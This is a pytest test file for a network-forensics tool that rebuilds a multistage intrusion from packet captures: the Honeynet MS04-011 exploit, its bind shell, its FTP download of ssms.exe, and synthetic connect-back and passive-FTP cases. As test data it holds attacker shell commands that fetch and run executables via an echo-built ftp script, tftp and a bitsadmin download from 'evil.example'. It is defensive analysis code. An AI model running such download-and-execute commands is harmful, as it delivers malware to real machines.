"""Following an attack across connections (stormwatch.collector.multistage).

Real capture: the Honeynet Forensic Challenge 2010 #1 ``attack-trace.pcap`` (SOURCES.md): an
MS04-011 LSASS exploit from 98.114.205.102, a bind shell on 192.150.11.111:1957, an echo-built FTP
script, an FTP control connection to 98.114.205.102:8884 and an active-mode data connection
carrying ``ssms.exe`` (a PE of 158,720 bytes, MD5 14a09a48ad23fe0ea5a180bee8cb750a — the
challenge's published answer). Synthetic captures (built with pcap_synth) cover a connect-back
shell with a tftp download, and a passive-mode FTP download from a third host found through the
shellcode analyser's bind port.
"""

from __future__ import annotations

import hashlib
import json
import shutil
import struct
import subprocess
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner
from hypothesis import given, settings
from hypothesis import strategies as st

import pcap_synth as ps
from stormwatch.cli.attack_cmd import attacks as attacks_cmd
from stormwatch.collector.attack_events import attack_event_table, attack_events
from stormwatch.collector.attack_model import MultiStageAttack
from stormwatch.collector.capture_flows import Direction
from stormwatch.collector.file_rebuild import pe_extent
from stormwatch.collector.ftp_stream import (
    Line,
    parse_eprt,
    parse_epsv,
    parse_port,
    parse_replies,
    parse_session,
    split_lines,
)
from stormwatch.collector.multistage import FollowLimits, follow_attacks
from stormwatch.collector.replay import replay_capture
from stormwatch.collector.shell_stream import ShellLine, parse_shell, split_statements
from stormwatch.collector.shellcode_link import load_analyser
from stormwatch.events.payload_types import PAYLOAD_FILE
from stormwatch.ingest.base import source_for

CAPTURE = "pcap/exploits/honeynet-fc2010-attack-trace-ms04-011.pcap"
ATTACKER, VICTIM = "98.114.205.102", "192.150.11.111"
SSMS_MD5 = "14a09a48ad23fe0ea5a180bee8cb750a"
SSMS_SIZE = 158_720
SCRIPT = ("echo open 0.0.0.0 8884 > o&echo user 1 1 >> o &echo get ssms.exe >> o &echo quit >> o &ftp -n -s:o "
          "&del /F /Q o &ssms.exe")


def follow(path: Path, payloads: Path | None, **kw: Any) -> list[MultiStageAttack]:
    tables = list(replay_capture(source_for(str(path), "test"), payloads))
    return follow_attacks(path, tables, payloads, **kw)


@pytest.fixture(scope="module")
def honeynet(shared_data: Path, tmp_path_factory: pytest.TempPathFactory) -> tuple[MultiStageAttack, Path]:
    payloads = tmp_path_factory.mktemp("payloads")
    found = follow(shared_data / CAPTURE, payloads)
    assert len(found) == 1
    return found[0], payloads


# -- the published answer ---------------------------------------------------------------------------

def test_honeynet_exploit_shell_and_commands(honeynet: tuple[MultiStageAttack, Path]) -> None:
    a, _ = honeynet
    assert (a.attacker, a.victim, a.exploit.vuln, a.exploit.victim_port) == (ATTACKER, VICTIM, "MS04-011", 445)
    assert a.shell is not None and a.shell_kind == "bind" and a.bind_port == 1957
    assert (a.shell.client, a.shell.server) == (ATTACKER, VICTIM)
    assert a.shell.first_ts > a.exploit.ts
    assert a.shell_activity is not None
    assert [c.text for c in a.shell_activity.commands] == [SCRIPT, "ssms.exe"]
    assert a.shell_activity.scripts == {"o": ["open 0.0.0.0 8884", "user 1 1", "get ssms.exe", "quit"]}
    assert [p for p, _ in a.shell_activity.runs] == ["ssms.exe", "ssms.exe"]


def test_honeynet_ftp_download(honeynet: tuple[MultiStageAttack, Path]) -> None:
    a, _ = honeynet
    [offer] = a.offers
    assert (offer.protocol, offer.host, offer.port, offer.filename, offer.user, offer.password) == \
        ("ftp", "0.0.0.0", 8884, "ssms.exe", "1", "1")
    [ftp] = a.ftp
    c = ftp.connection
    assert (c.client, c.server, c.server_port) == (VICTIM, ATTACKER, 8884)
    assert "0.0.0.0" in ftp.matched_by  # the script's host is unusable: matched by port, to the attacker
    s = ftp.session
    assert (s.user, s.password, s.logged_in, s.type) == ("1", "1", True, "I")
    assert s.greeting is not None and s.greeting.code == 220
    assert [cmd.verb for cmd, _ in s.exchanges] == ["USER", "PASS", "SYST", "TYPE", "PORT", "RETR", "QUIT"]
    [t] = s.transfers
    assert (t.verb, t.path, t.mode, t.data_host, t.data_port) == ("RETR", "ssms.exe", "active", VICTIM, 1080)
    assert t.preliminary is not None and t.preliminary.code == 150
    assert t.final is not None and t.final.code == 226


def test_honeynet_file_rebuilt_and_stored(honeynet: tuple[MultiStageAttack, Path]) -> None:
    a, payloads = honeynet
    [f] = a.files
    assert (f.name, f.url, f.size, f.md5) == ("ssms.exe", "ftp://98.114.205.102:8884/ssms.exe", SSMS_SIZE, SSMS_MD5)
    assert f.complete and f.missing_bytes == 0 and not f.notes
    assert (f.expected_size, f.expected_from, f.file_type) == (SSMS_SIZE, "tcp_fin", "pe")
    assert (f.connection.client, f.connection.client_port, f.connection.server, f.connection.server_port) == \
        (ATTACKER, 2152, VICTIM, 1080)
    stored = payloads / f.sha256[:2] / f.sha256
    assert f.stored and f.stored_path == str(stored)
    body = stored.read_bytes()
    assert hashlib.md5(body, usedforsecurity=False).hexdigest() == SSMS_MD5
    assert hashlib.sha256(body).hexdigest() == f.sha256
    assert body[:2] == b"MZ" and (pe_extent(body) or 0) <= len(body)
    assert stored.stat().st_mode & 0o111 == 0  # never executable


def test_honeynet_timeline_in_order(honeynet: tuple[MultiStageAttack, Path]) -> None:
    a, _ = honeynet
    rows = a.timeline()
    stages = [r["stage"] for r in rows]
    first = {s: stages.index(s) for s in ("exploit", "shell", "command", "offer", "ftp-control", "ftp-data", "file")}
    assert list(first.values()) == sorted(first.values())
    assert rows == sorted(rows, key=lambda r: r["time"])
    assert rows[0]["connection"] == f"{ATTACKER}:1828 -> {VICTIM}:445"
    assert any("1957" in r["what"] for r in rows if r["stage"] == "shell")
    assert json.loads(json.dumps(a.as_dict()))["files"][0]["md5"] == SSMS_MD5


@pytest.mark.tshark
def test_honeynet_file_agrees_with_tshark(shared_data: Path, honeynet: tuple[MultiStageAttack, Path]) -> None:
    """tshark's own TCP reassembly of the data connection gives the same bytes."""
    tshark = shutil.which("tshark")
    if tshark is None:
        pytest.skip("tshark is not installed (apt-get install tshark); the cross-check needs it")
    a, payloads = honeynet
    [f] = a.files
    c = f.connection
    out = subprocess.run([tshark, "-n", "-r", str(shared_data / CAPTURE), "-q", "-z",
                          f"follow,tcp,raw,{c.client}:{c.client_port},{c.server}:{c.server_port}"],
                         capture_output=True, text=True, check=True).stdout
    body = out.split("=" * 67)[1].splitlines()
    node0 = b"".join(bytes.fromhex(x) for x in body if x and not x.startswith(("\t", "Follow", "Filter", "Node")))
    assert len(node0) == SSMS_SIZE
    assert node0 == (payloads / f.sha256[:2] / f.sha256).read_bytes()


def test_honeynet_with_the_shellcode_analyser(shared_data: Path, tmp_path: Path) -> None:
    assert load_analyser() is not None
    [a] = follow(shared_data / CAPTURE, tmp_path)
    assert a.shellcode is not None and 1957 in a.shellcode["binds"]
    assert a.shell_rule == "the shellcode binds port(s) 1957" and a.bind_port == 1957
    assert [f.md5 for f in a.files] == [SSMS_MD5]


def test_honeynet_heuristic_without_analysis(shared_data: Path, tmp_path: Path) -> None:
    """The analyser finding nothing leaves the rule: the attacker's first text connection to 1957."""
    [a] = follow(shared_data / CAPTURE, tmp_path, analyse=lambda data: FakeReport(found=False, stop_reason="none"))
    assert a.shellcode is None and any("no shellcode found" in n for n in a.notes)
    assert a.bind_port == 1957 and a.shell_rule.startswith("heuristic")
    assert [f.md5 for f in a.files] == [SSMS_MD5]


def test_honeynet_events(honeynet: tuple[MultiStageAttack, Path]) -> None:
    a, _ = honeynet
    evs = attack_events(a)
    assert [e.event for e in evs] == ["payload.offer", "payload.file"]
    offer, file = evs
    assert offer.fields["attack"] == file.fields["attack"] == a.exploit.session
    assert (offer.fields["url"], offer.fields["endpoint"]) == ("ftp://0.0.0.0:8884/ssms.exe", "0.0.0.0:8884:ftp")
    assert (offer.src_ip, offer.dst_port) == (ATTACKER, 1957)  # typed into the shell
    assert {k for k, v in file.fields.items() if v is not None} <= {f.name for f in PAYLOAD_FILE.fields}
    assert (file.fields["md5"], file.fields["size"], file.fields["complete"]) == (SSMS_MD5, SSMS_SIZE, True)
    table = attack_event_table([a], "test")
    assert table is not None
    rows = table.to_pylist()
    assert [r["event"] for r in rows] == ["payload.offer", "payload.file"]
    offered = json.loads(rows[0]["data"])
    assert (offered["url"], offered["attack"], offered["source"], offered["filename"]) == \
        ("ftp://0.0.0.0:8884/ssms.exe", a.exploit.session, "shell", "ssms.exe")
    assert json.loads(rows[1]["data"])["sha256"] == a.files[0].sha256
    assert rows[1]["src_ip"] == ATTACKER and rows[1]["dst_port"] == 1080
    assert [r["key"] for r in attack_event_table([a], "test").to_pylist()] == [r["key"] for r in rows]


def test_cli_attacks(shared_data: Path, tmp_path: Path) -> None:
    runner = CliRunner()
    path = str(shared_data / CAPTURE)
    res = runner.invoke(attacks_cmd, [path, "--payload-dir", str(tmp_path), "--format", "json"])
    assert res.exit_code == 0, res.output
    [a] = json.loads(res.output)
    assert a["shell"]["server_port"] == 1957 and a["files"][0]["md5"] == SSMS_MD5
    res = runner.invoke(attacks_cmd, [path])
    assert res.exit_code == 0, res.output
    assert "bind shell on port 1957" in res.output and "ssms.exe" in res.output and SSMS_MD5 in res.output


# -- damaged captures -------------------------------------------------------------------------------

def _records(data: bytes) -> list[bytes]:
    out, at = [], 24
    while at + 16 <= len(data):
        incl = struct.unpack_from("<I", data, at + 8)[0]
        out.append(data[at:at + 16 + incl])
        at += 16 + incl
    return out


def test_missing_segment_gives_a_flagged_file(shared_data: Path, tmp_path: Path) -> None:
    raw = (shared_data / CAPTURE).read_bytes()
    recs = _records(raw)
    cut = tmp_path / "hole.pcap"
    cut.write_bytes(raw[:24] + b"".join(r for i, r in enumerate(recs, 1) if i != 80))  # 1024 bytes at 4380
    [a] = follow(cut, tmp_path / "p")
    [f] = a.files
    assert not f.complete and f.size == SSMS_SIZE  # the FIN still tells the length
    assert (f.missing_bytes, f.holes) == (1024, [(4380, 5404)])
    [good] = follow(shared_data / CAPTURE, tmp_path / "q")
    mine = Path(f.stored_path or "").read_bytes()
    ref = Path(good.files[0].stored_path or "").read_bytes()
    assert mine[:4380] == ref[:4380] and mine[5404:] == ref[5404:] and mine[4380:5404] == bytes(1024)
    assert any("1024 bytes missing" in n for n in a.notes)


def test_truncated_capture_gives_a_partial_file(shared_data: Path, tmp_path: Path) -> None:
    raw = (shared_data / CAPTURE).read_bytes()
    cut = tmp_path / "cut.pcap"
    cut.write_bytes(raw[:120_000])  # ends mid-packet, inside the data connection
    [a] = follow(cut, tmp_path / "p")
    assert a.bind_port == 1957
    [f] = a.files
    assert not f.complete and 0 < f.size < SSMS_SIZE and f.expected_size == 147_456  # from the PE header
    assert any("FIN is not in the capture" in n for n in f.notes)


@pytest.mark.parametrize("cut", [2_000, 9_000, 12_345, 60_000, 150_000, 188_000])
def test_any_cut_of_the_capture_is_followed_without_error(shared_data: Path, tmp_path: Path, cut: int) -> None:
    path = tmp_path / "cut.pcap"
    path.write_bytes((shared_data / CAPTURE).read_bytes()[:cut])
    for a in follow(path, tmp_path / "p"):
        assert all(f.complete == (f.md5 == SSMS_MD5) for f in a.files)
        assert a.timeline()[0]["stage"] == "exploit"


def test_file_size_limit(shared_data: Path, tmp_path: Path) -> None:
    [a] = follow(shared_data / CAPTURE, tmp_path, limits=FollowLimits(max_file=100_000))
    [f] = a.files
    assert f.size == 100_000 and not f.complete and any("size limit" in n for n in f.notes)


def test_no_exploit_no_attack(tmp_path: Path) -> None:
    p = tmp_path / "empty.pcap"
    p.write_bytes(ps.pcap([]))
    assert follow_attacks(p, [], tmp_path) == []


# -- RFC 959 ------------------------------------------------------------------------------------------

def test_port_and_pasv() -> None:
    assert parse_port("192,150,11,111,4,56") == ("192.150.11.111", 1080)  # RFC 959 4.1.2: 4*256+56
    assert parse_port("Entering Passive Mode (10,7,7,7,19,137).") == ("10.7.7.7", 5001)
    assert parse_port("=10,7,7,7,0,21") == ("10.7.7.7", 21)  # RFC 1123 4.1.2.6: no parentheses needed
    assert parse_port("300,1,1,1,1,1") is None
    assert parse_port("1,2,3,4,5") is None
    assert parse_eprt("|1|132.235.1.2|6275|") == ("132.235.1.2", 6275)  # RFC 2428 2
    assert parse_eprt("|2|1080::8:800:200C:417A|5282|") == ("1080::8:800:200C:417A", 5282)
    assert parse_eprt("|3|x|1|") is None
    assert parse_epsv("Entering Extended Passive Mode (|||6446|)") == 6446  # RFC 2428 3
    assert parse_epsv("229 (|||99999|)") is None


def test_multiline_reply() -> None:
    # RFC 959 4.2's own example: the text lines may start with digits, the reply ends at "123 "
    text = b"123-First line\r\nSecond line\r\n  234 A line beginning with numbers\r\n123 The last line\r\n200 OK\r\n"
    replies = parse_replies(split_lines(text))
    assert [r.code for r in replies] == [123, 200]
    assert replies[0].text == "First line\nSecond line\n  234 A line beginning with numbers\nThe last line"


def test_session_pairing_passive_and_announced_size() -> None:
    up = b"USER anonymous\r\nPASS x@y\r\nTYPE I\r\nPASV\r\nRETR a.exe\r\nQUIT\r\n"
    down = (b"220-Welcome\r\n220 ready\r\n331 Password\r\n230 OK\r\n200 Type set\r\n"
            b"227 Entering Passive Mode (10,7,7,7,19,137)\r\n150 Opening BINARY data (3000 bytes)\r\n"
            b"226 Done\r\n221 Bye\r\n")
    s = parse_session(up, down, server="10.7.7.7")
    assert s.greeting is not None and s.greeting.text == "Welcome\nready"
    assert [(c.verb, r.code if r else None) for c, r in s.exchanges] == [
        ("USER", 331), ("PASS", 230), ("TYPE", 200), ("PASV", 227), ("RETR", 226), ("QUIT", 221)]
    [t] = s.transfers
    assert (t.mode, t.data_host, t.data_port, t.announced_size, t.succeeded) == \
        ("passive", "10.7.7.7", 5001, 3000, True)
    assert s.logged_in and not s.unanswered


def test_session_cut_short_and_refused_port() -> None:
    s = parse_session(b"USER a\r\nPORT 1,2,3,4,5,6\r\nRETR x\r\nRETR y", b"220 hi\r\n331 pw\r\n500 no\r\n")
    assert [t.path for t in s.transfers] == ["x", "y"]
    assert all(t.data_port is None and t.final is None for t in s.transfers)  # PORT refused, replies missing
    assert split_lines(b"a\r\nb") == [Line("a", None), Line("b", None)]


@settings(max_examples=300, deadline=None)
@given(st.binary(max_size=600), st.binary(max_size=600))
def test_ftp_parser_takes_any_bytes(up: bytes, down: bytes) -> None:
    s = parse_session(up, down)
    assert len(s.exchanges) <= up.count(b"\n") + 1


@settings(max_examples=300, deadline=None)
@given(st.lists(st.text(alphabet=st.sampled_from(list("echo ftp-s:n>&|\"o get open user 1 tftp -i GET http://x/"))),
                max_size=8))
def test_shell_parser_takes_any_text(texts: list[str]) -> None:
    act = parse_shell(lines(*texts), [])
    assert len(act.statements) <= sum(len(t) for t in texts)


# -- shell commands -------------------------------------------------------------------------------------

def test_statements() -> None:
    assert split_statements('echo a > o & echo "x & y" >> o && ftp -s:o || del o | more') == [
        "echo a > o", 'echo "x & y" >> o', "ftp -s:o", "del o", "more"]


def lines(*texts: str) -> list[ShellLine]:
    return [ShellLine(t, i, True) for i, t in enumerate(texts)]


def test_ftp_script_without_n_logs_in_with_the_next_lines() -> None:
    act = parse_shell(lines("echo open 10.1.1.1>f", "echo anonymous>>f", "echo pw>>f", "echo bin>>f",
                            "echo get bot.exe>>f", "echo bye>>f", "ftp -s:f", "start bot.exe"), [])
    [o] = act.offers
    assert (o.host, o.port, o.user, o.password, o.filename, o.url) == (
        "10.1.1.1", 21, "anonymous", "pw", "bot.exe", "ftp://10.1.1.1/bot.exe")
    assert act.runs == [("bot.exe", 7)]


def test_tftp_urls_and_missing_script() -> None:
    act = parse_shell(lines("tftp -i 10.2.2.2 GET x.exe", "ftp -n -s:nope",
                            "bitsadmin /transfer j http://evil.example:8080/d/y.exe c:\\y.exe"), [])
    assert [(o.protocol, o.host, o.port, o.filename) for o in act.offers] == [
        ("tftp", "10.2.2.2", 69, "x.exe"), ("http", "evil.example", 8080, "y.exe")]
    assert act.notes == ["ftp runs script 'nope', which the stream never wrote"]


def test_direction_keeps_holes_and_first_copy() -> None:
    d = Direction()
    budget = [1 << 20]
    d.start_syn(1000)
    d.add(1001, 1, b"abc", 100, budget)
    d.add(1007, 2, b"ghi", 100, budget)
    d.add(1001, 3, b"XYZ", 100, budget)  # a retransmission with other bytes: the first copy wins
    d.fin(1010, 0)
    part = d.assemble()
    assert (part.data, part.holes, part.fin_length, part.missing) == (b"abc\0\0\0ghi", ((3, 6),), 9, 3)
    assert (part.ts_at(0), part.ts_at(7)) == (1, 2)


# -- synthetic captures ---------------------------------------------------------------------------------

A, V, F = "203.0.113.5", "192.0.2.10", "198.51.100.7"


def conversation(client: str, cport: int, server: str, sport: int, t: int,
                 talk: list[tuple[bool, bytes]]) -> tuple[list[tuple[int, bytes]], int]:
    """A whole TCP connection: handshake, ``talk`` (from_client, bytes) in 1000-byte segments, FINs."""
    cs, ss = 1000, 50000
    pk: list[tuple[int, bytes]] = []

    def send(from_client: bool, flags: int, data: bytes = b"") -> None:
        nonlocal cs, ss, t
        t += 1000
        if from_client:
            pk.append((t, ps.eth4(client, server, 6, ps.tcp(cport, sport, flags, seq=cs, ack=ss, payload=data))))
            cs += len(data) + (1 if flags & (ps.SYN | ps.FIN) else 0)
        else:
            pk.append((t, ps.eth4(server, client, 6, ps.tcp(sport, cport, flags, seq=ss, ack=cs, payload=data))))
            ss += len(data) + (1 if flags & (ps.SYN | ps.FIN) else 0)

    send(True, ps.SYN)
    send(False, ps.SYN | ps.ACK)
    for from_client, data in talk:
        for i in range(0, len(data), 1000):
            send(from_client, ps.PSH | ps.ACK, data[i:i + 1000])
    send(True, ps.FIN | ps.ACK)
    send(False, ps.FIN | ps.ACK)
    return pk, t


def exploit_event(t: int) -> dict[str, Any]:
    return {"event": "exploit.attempt", "ts": t, "session": "synthetic-exploit", "src_ip": A, "src_port": 1030,
            "dst_ip": V, "dst_port": 445, "data": {"vuln": "MS06-040", "kind": "exploit", "detector": "test"}}


def test_connect_back_shell_with_tftp(tmp_path: Path) -> None:
    t0 = ps.T0
    banner = (b"Microsoft Windows 2000 [Version 5.00.2195]\r\n(C) Copyright 1985-2000 Microsoft Corp.\r\n\r\n"
              b"C:\\WINNT\\system32>")
    shell, _ = conversation(V, 1100, A, 4444, t0 + 500_000, [
        (True, banner), (False, b"tftp -i 10.9.9.9 GET bot.exe\r\n"), (False, b"start bot.exe\r\n")])
    pcap = tmp_path / "cb.pcap"
    pcap.write_bytes(ps.pcap(shell))
    [a] = follow_attacks(pcap, [exploit_event(t0)], tmp_path / "p")
    assert a.shell_kind == "connect-back" and "heuristic" in a.shell_rule
    assert a.shell is not None and (a.shell.client, a.shell.server_port) == (V, 4444)
    assert a.shell_activity is not None
    assert [c.text for c in a.shell_activity.commands] == ["tftp -i 10.9.9.9 GET bot.exe", "start bot.exe"]
    assert next(x.text for x in a.shell_activity.lines if not x.to_victim).startswith("Microsoft Windows 2000")
    assert [(o.protocol, o.host, o.filename) for o in a.offers] == [("tftp", "10.9.9.9", "bot.exe")]
    assert a.files == [] and a.bind_port is None
    assert "run" in [r["stage"] for r in a.timeline()]


@dataclass(frozen=True)
class FakeReport:
    """The analyser's report shape (stormwatch.detect.shellcode), for driving the follower."""

    found: bool = True
    offset: int = 0
    decoder: str = "xor8"
    key: str = "99"
    size: int = 400
    sha256: str = "0" * 64
    md5: str = "0" * 32
    api_calls: tuple[tuple[str, str], ...] = (("bind", "port 5555"),)
    binds: tuple[int, ...] = (5555,)
    connects: tuple[tuple[str, int], ...] = ()
    urls: tuple[str, ...] = ()
    commands: tuple[str, ...] = ()
    offers: tuple[Any, ...] = ()
    stop_reason: str = "exit"


def passive_capture(tmp_path: Path) -> tuple[Path, bytes]:
    t0 = ps.T0
    body = bytes(range(256)) * 11 + b"tail" * 46  # 3000 bytes
    exploit, _ = conversation(A, 1030, V, 445, t0 - 100_000, [(True, b"\x90" * 64 + b"\xeb\xfe")])
    decoy, t = conversation(A, 2000, V, 80, t0 + 200_000, [(True, b"GET / HTTP/1.0\r\n\r\n")])
    shell, t = conversation(A, 2001, V, 5555, t + 1000, [
        (True, b"echo open 198.51.100.7 21>x&echo user u p>>x&echo binary>>x&echo get a.exe>>x&echo bye>>x"
               b"&ftp -n -s:x\r\n")])
    ctl, t = conversation(V, 1300, F, 21, t + 1000, [
        (False, b"220-Welcome\r\n220 ready\r\n"), (True, b"USER u\r\n"), (False, b"331 pw\r\n"),
        (True, b"PASS p\r\n"), (False, b"230 in\r\n"), (True, b"TYPE I\r\n"), (False, b"200 ok\r\n"),
        (True, b"PASV\r\n"), (False, b"227 Entering Passive Mode (198,51,100,7,19,137)\r\n"),
        (True, b"RETR a.exe\r\n"), (False, b"150 Opening BINARY mode data connection (3000 bytes)\r\n")])
    data, t = conversation(V, 1301, F, 5001, t + 1000, [(False, body)])
    done, _ = conversation(V, 1302, F, 21, t + 1000, [])  # unrelated: no FTP content
    p = tmp_path / "pasv.pcap"
    p.write_bytes(ps.pcap(exploit + decoy + shell + ctl + data + done))
    return p, body


def test_passive_ftp_via_shellcode_bind_port(tmp_path: Path) -> None:
    pcap, body = passive_capture(tmp_path)
    [a] = follow_attacks(pcap, [exploit_event(ps.T0)], tmp_path / "p", analyse=lambda data: FakeReport())
    assert a.bind_port == 5555 and a.shell_rule == "the shellcode binds port(s) 5555"
    assert a.shellcode is not None and a.shellcode["api_calls"] == ["bind(port 5555)"]
    assert a.shellcode["origin"] == "the exploit connection's client bytes"  # no payload store entry
    [ftp] = a.ftp
    assert (ftp.connection.server, ftp.session.transfers[0].mode) == (F, "passive")
    [f] = a.files
    assert (f.size, f.md5, f.complete, f.url) == (3000, hashlib.md5(body, usedforsecurity=False).hexdigest(), True,
                                                 "ftp://198.51.100.7/a.exe")
    assert (tmp_path / "p" / f.sha256[:2] / f.sha256).read_bytes() == body


def test_passive_ftp_heuristic_skips_other_services(tmp_path: Path) -> None:
    """Without bind ports from the analyser the rule takes the attacker's first connection to another
    port that carries text and is no HTTP request: not the decoy on port 80, the shell on 5555."""
    pcap, body = passive_capture(tmp_path)
    [a] = follow_attacks(pcap, [exploit_event(ps.T0)], tmp_path / "p", analyse=lambda data: FakeReport(binds=()))
    assert a.shell is not None and a.shell.server_port == 5555 and a.shell_rule.startswith("heuristic")
    assert [o.url for o in a.offers] == ["ftp://198.51.100.7/a.exe"]
    [f] = a.files
    assert f.complete and f.size == len(body)
    assert a.ftp[0].matched_by == "offer ftp://198.51.100.7/a.exe"


def test_heuristic_takes_no_directory_traffic_for_a_shell(shared_data: Path) -> None:
    """EternalChampion's attacker is a domain member: after the exploit it talks LDAP (389, 3268) and
    DCE/RPC (49155) to the victim, and an RPC connection seen without its SYN; none is a shell."""
    found = follow(shared_data / "pcap/exploits/eternalchampion.pcap", None)
    assert len(found) == 2
    assert all(a.shell is None and "no shell connection found after the exploit" in a.notes for a in found)
